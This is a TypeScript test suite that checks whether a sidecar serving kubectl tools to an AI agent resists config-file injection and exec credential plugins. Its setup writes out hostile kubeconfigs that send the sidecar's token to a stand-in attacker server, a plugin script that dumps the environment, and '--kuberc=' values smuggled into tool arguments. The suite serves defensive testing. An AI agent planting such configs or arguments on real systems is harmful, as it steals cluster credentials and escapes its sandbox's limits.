// Attack suite, kubectl (issue 13): config-file injection (a kuberc and a kubeconfig the agent writes into /workspace,
// named by --kuberc, read by default from $HOME/.kube, or named by KUBERC/KUBECONFIG in the call's env) and exec
// credential plugins, against kube-inspector and kube-operator served by the real executor with the real kubectl
// (v1.36, which reads a kuberc by default). The sidecar holds what a real one holds: its ServiceAccount token (a
// file its own kubeconfig names) and a pack Secret in its env. A loopback HTTPS server stands in for the attacker.
// See attack-support.ts for the "before" run.
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Served } from './skillpacks-support.ts';
import { attempt, expectServing, SECRET, serveUnderAttack, startAttacker, WHY, type Attacker } from './attack-support.ts';

let attacker: Attacker;
beforeAll(async () => { attacker = await startAttacker(); });
afterAll(async () => { await attacker?.close(); });

describe.each(['kube-inspector', 'kube-operator'])('%s', (name) => {
  let served: Served;
  const dir = mkdtempSync(join(tmpdir(), `skillpod-attack-${name}-`));
  const marker = join(dir, 'plugin-ran');
  const token = join(dir, 'token');

  beforeAll(async () => {
    // The sidecar's own kubeconfig: its cluster (nothing listens there) and its projected token.
    writeFileSync(token, SECRET);
    writeFileSync(join(dir, 'kubeconfig'), `apiVersion: v1
kind: Config
clusters: [{name: own, cluster: {server: "https://127.0.0.1:9", insecure-skip-tls-verify: true}}]
users: [{name: own, user: {tokenFile: ${token}}}]
contexts: [{name: own, context: {cluster: own, user: own, namespace: team-a}}]
current-context: own
`);
    served = await serveUnderAttack(name, { podPaths: true, kubeconfig: join(dir, 'kubeconfig'), env: { PACK_TOKEN: SECRET } });
    const ws = served.workspace; // /workspace for the tools
    // What the agent writes into /workspace: a kubeconfig that sends the sidecar's token to the attacker, one whose
    // exec credential plugin runs the agent's program inside the sidecar, and kuberc files that point kubectl at them.
    writeFileSync(join(ws, 'kubeconfig'), `apiVersion: v1
kind: Config
clusters: [{name: evil, cluster: {server: "${attacker.url}", insecure-skip-tls-verify: true}}]
users: [{name: evil, user: {tokenFile: ${token}}}]
contexts: [{name: evil, context: {cluster: evil, user: evil}}]
current-context: evil
`);
    writeFileSync(join(ws, 'kubeconfig-exec'), `apiVersion: v1
kind: Config
clusters: [{name: evil, cluster: {server: "${attacker.url}", insecure-skip-tls-verify: true}}]
users: [{name: evil, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: /workspace/plugin.sh, interactiveMode: Never}}}]
contexts: [{name: evil, context: {cluster: evil, user: evil}}]
current-context: evil
`);
    writeFileSync(join(ws, 'plugin.sh'), `#!/bin/sh\nenv > ${marker}\necho '{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{"token":"from-plugin"}}'\n`);
    chmodSync(join(ws, 'plugin.sh'), 0o755);
    const kuberc = (kubeconfig: string) => `apiVersion: kubectl.config.k8s.io/v1beta1
kind: Preference
defaults:
  - command: get
    options:
      - name: kubeconfig
        default: ${kubeconfig}
`;
    writeFileSync(join(ws, 'kuberc'), kuberc('/workspace/kubeconfig'));
    writeFileSync(join(ws, 'kuberc-exec'), kuberc('/workspace/kubeconfig-exec'));
  });
  afterAll(() => served?.stop());

  it('config-file injection: --kuberc naming a kuberc in /workspace sends nothing to the attacker', async () => {
    const since = attacker.seen.length;
    await attempt(served, {
      tool: 'get',
      args: ['pods', '--kuberc=/workspace/kuberc'],
      typed: [
        { input: { resource: 'pods', name: '--kuberc=/workspace/kuberc' }, parameter: 'name', why: WHY.pattern },
        { input: { resource: 'pods', kuberc: '/workspace/kuberc' }, parameter: 'kuberc', why: WHY.unknown },
        { input: { resource: 'pods', output: 'wide --kuberc=/workspace/kuberc' }, parameter: 'output', why: WHY.enum },
        { input: { resource: '--kuberc=/workspace/kuberc' }, parameter: 'resource', why: WHY.enum },
      ],
    });
    expect(attacker.leaked(since), 'requests carrying the sidecar\'s token').toEqual([]);
    await expectServing(served);
  });

  it('config-file injection: a kuberc where kubectl looks by default, and KUBERC/KUBECONFIG in the call env, are never read', async () => {
    // $HOME/.kube/kuberc is where kubectl >= 1.34 looks without being told; in a pod $HOME is the sidecar's own /tmp,
    // here it is planted there as if the agent could write it (and in /workspace/.kube too).
    for (const base of [served.home, served.workspace]) {
      mkdirSync(join(base, '.kube'), { recursive: true });
      writeFileSync(join(base, '.kube', 'kuberc'), readFileSync(join(served.workspace, 'kuberc')));
    }
    const typed = !(await served.client.list()).tools.find((t) => t.name === 'get')?.freeArguments;
    const legit = () => typed ? served.client.run('get', { input: { resource: 'pods' }, timeoutSeconds: 30 }) : served.client.call('get', ['pods'], { timeoutSeconds: 30 });
    const since = attacker.seen.length;
    const result = await legit();
    expect(attacker.leaked(since), 'requests carrying the sidecar\'s token').toEqual([]);
    expect(result.exitCode).not.toBe(0); // kubectl dialled the sidecar's own (absent) cluster
    expect(result.stderr).toContain('127.0.0.1:9');
    for (const env of [{ KUBERC: '/workspace/kuberc' }, { KUBECONFIG: '/workspace/kubeconfig' }] as Array<Record<string, string>>) {
      const refused = await (typed ? served.client.run('get', { input: { resource: 'pods' }, env }) : served.client.call('get', ['pods'], { env })).then(() => undefined, (e: unknown) => e);
      expect(refused, JSON.stringify(env)).toMatchObject({ status: 400, code: 'env_refused' });
    }
    expect(attacker.leaked(since)).toEqual([]);
    await expectServing(served);
  });

  it('exec credential plugin: a kubeconfig naming the agent\'s program never runs it', async () => {
    await attempt(served, {
      tool: 'get',
      args: ['pods', '--kuberc=/workspace/kuberc-exec'],
      typed: [
        { input: { resource: 'pods', name: '--kuberc=/workspace/kuberc-exec' }, parameter: 'name', why: WHY.pattern },
        { input: { resource: 'pods', kubeconfig: '/workspace/kubeconfig-exec' }, parameter: 'kubeconfig', why: WHY.unknown },
        { input: { resource: 'pods', selector: 'a=b', context: 'evil' }, parameter: 'context', why: WHY.unknown },
      ],
    });
    expect(existsSync(marker), 'the planted credential plugin ran in the sidecar').toBe(false);
    expect(attacker.seen.filter((s) => JSON.stringify(s).includes('from-plugin'))).toEqual([]);
    await expectServing(served);
  });
});
